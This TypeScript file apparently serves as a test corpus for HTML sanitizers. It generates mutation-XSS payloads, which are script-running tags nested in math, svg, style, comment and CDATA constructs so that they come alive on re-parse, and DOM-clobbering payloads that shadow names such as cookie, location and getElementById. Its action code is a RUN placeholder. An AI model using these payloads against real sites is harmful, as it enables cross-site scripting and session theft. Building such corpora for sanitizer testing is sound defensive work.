/** What a second parse is meant to bring to life. */
const sleeper = '<img src=x: onerror=RUN><svg onload=RUN></svg><script>RUN</script>';

/** Where it sleeps: read one way the first time and another way when what was read is written and read again. */
const beds: readonly ((sleeper: string) => string)[] = [
  (s) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${quoted(s)}">`,
  (s) => `<form><math><mtext></form><form><mglyph><style></math>${s}`,
  (s) => `<math><mtext><mglyph><svg><mtext><style><path id="</style>${s}">`,
  (s) => `<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea>${s}">`,
  (s) => `<math><mtext><option><mglyph><style><!--</style>--></style>${s}`,
  (s) => `<svg></p><style><a id="</style>${s}">`,
  (s) => `<svg><p><style><g title="</style>${s}">`,
  (s) => `<svg><foreignObject><style><!--</style><p title="--><!--x--></style>${s}">`,
  (s) => `<svg><desc><table><svg><style></desc></table>${s}`,
  (s) => `<svg><title><style><p title="</style></title>${s}"></p></style></title></svg>`,
  (s) => `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><!--&gt;${quoted(s)}">`,
  (s) => `<math><annotation-xml encoding="text/html"><xmp>&lt;/xmp&gt;${quoted(s)}</xmp></annotation-xml></math>`,
  (s) => `<math><annotation-xml encoding="text/html"><style>${s}</style></annotation-xml></math>`,
  (s) => `<noscript><p title="</noscript>${s}"></noscript>`,
  (s) => `<template><p title="</template>${s}"></template>`,
  (s) => `<title><p title="</title>${s}">`,
  (s) => `<textarea><p title="</textarea>${s}"></textarea>`,
  (s) => `<xmp><p title="</xmp>${s}"></xmp>`,
  (s) => `<iframe><p title="</iframe>${s}"></iframe>`,
  (s) => `<noembed><p title="</noembed>${s}"></noembed>`,
  (s) => `<noframes><p title="</noframes>${s}"></noframes>`,
  (s) => `<style><p title="</style>${s}"></style>`,
  (s) => `<select><template><p title="</template></select>${s}"></template></select>`,
  (s) => `<select><style></select>${s}</style></select>`,
  (s) => `<!--><p title="-->${s}">`,
  (s) => `<!--!><p title="--!>${s}">`,
  (s) => `<!---><p title="--->${s}">-->`,
  (s) => `<![CDATA[><p title="]]>${s}">]]>`,
  (s) => `<svg><![CDATA[</svg>${s}]]></svg>`,
  (s) => `<?xml ><p title="?>${s}">`,
  (s) => `<p title="\`${quoted(s)}\`" id=x\`>${s}`,
  (s) => `<a title="</a>${quoted(s)}"><table><a>${s}</table>`,
  (s) => `<table><tr><td><table><form>${s}</form></table><p title="</td></tr></table>${s}"></table>`,
  (s) => `${'<div>'.repeat(510)}<table><a><table>${s}`,
  (s) => `${'<font><b>'.repeat(300)}<p>${s}`,
  (s) => `<plaintext>${s}`,
  (s) => `<p id="x"${' '.repeat(3)}/>\u0000${s.replace('<', '<\u0000')}${s}`,
  (s) => `&lt;p&gt;&amp;lt;${quoted(s)}${s}`,
  (s) => `<b <script>RUN</script>0${s}`,
  (s) => `<html><frameset onload=RUN><frame></frameset>${s}</html>`,
];

const quoted = (text: string): string => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;');

/** Names of the page's own that an element takes over, to lead whoever cleans astray. */
const clobbering = [
  'attributes',
  'childNodes',
  'nodeName',
  'removeChild',
  'parentNode',
  'setAttribute',
  'innerHTML',
  'textContent',
  'ownerDocument',
  'body',
  'head',
  'documentElement',
  'getElementById',
  'querySelector',
  'implementation',
  'createElement',
  'cookie',
  'location',
  'defaultView',
];

/** Mutations. */
export const mutationVectors: readonly string[] = beds.map((bed) => bed(sleeper));

/** Elements whose names hide what they are. */
export const clobberingVectors: readonly string[] = [
  ...clobbering.flatMap((name) => [
    `<form onclick=RUN><input name=${name}><input id=${name}></form><img src=x: onerror=RUN>`,
    `<img name=${name}><a id=${name}></a><a id=${name} name=x href="javascript:RUN">x</a>`,
  ]),
];
